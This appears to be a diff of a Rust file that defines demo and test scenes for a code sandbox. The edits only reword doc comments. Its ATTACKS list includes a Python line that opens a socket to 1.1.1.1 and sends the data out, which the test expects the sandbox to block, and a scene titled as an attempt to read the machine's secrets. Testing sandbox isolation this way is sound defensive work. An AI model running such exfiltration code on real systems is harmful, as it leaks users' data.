@@ -2,7 +2,7 @@
 
 use serde_json::{Value, json};
 
-/// The file that the demo works on. It is in the public domain; `examples/README.md` says where it comes from.
+/// The demo's data set. It is in the public domain; `examples/README.md` gives its source.
 pub(super) const NILE: &[u8] = include_bytes!("../../../../../examples/nile.csv");
 
 /// One call of a tool.
@@ -16,9 +16,9 @@ pub(super) struct Scene {
     pub(super) code: &'static str,
     /// The time limit of the code; none: the default.
     pub(super) timeout_s: Option<u32>,
-    /// The status that must come back.
+    /// The expected status.
     pub(super) status: &'static str,
-    /// `cause.code` must be one of these; empty: there must be no cause.
+    /// The accepted values of `cause.code`; empty: there must be no cause.
     pub(super) causes: &'static [&'static str],
     /// Texts that the answer must contain.
     pub(super) answers: &'static [&'static str],
@@ -50,7 +50,7 @@ const fn code(title: &'static str, code: &'static str, answers: &'static [&'stat
     }
 }
 
-/// The analysis, each step using what the one before it left behind.
+/// The analysis. Each step uses the variables of the step before.
 pub(super) const ANALYSIS: &[Scene] = &[
     code(
         "Read the file",
@@ -100,7 +100,7 @@ print(f"the flow drops after {year}: from {before:.2f} to {after:.2f} on average
     ),
 ];
 
-/// Code that means harm, or does it by accident.
+/// Code that does harm, on purpose or by accident.
 pub(super) const ATTACKS: &[Scene] = &[
     Scene {
         title: "Try to send the data away",
@@ -111,7 +111,7 @@ socket.create_connection(("1.1.1.1", 443), timeout=3).sendall(repr(flow).encode(
         status: "error",
         causes: &["network_denied"],
         answers: &[],
-        moral: "There is no network in the sandbox, and the answer says so in words a model understands.",
+        moral: "There is no network in the sandbox, and the answer states it in words that a model understands.",
     },
     Scene {
         title: "Try to read secrets of this machine",
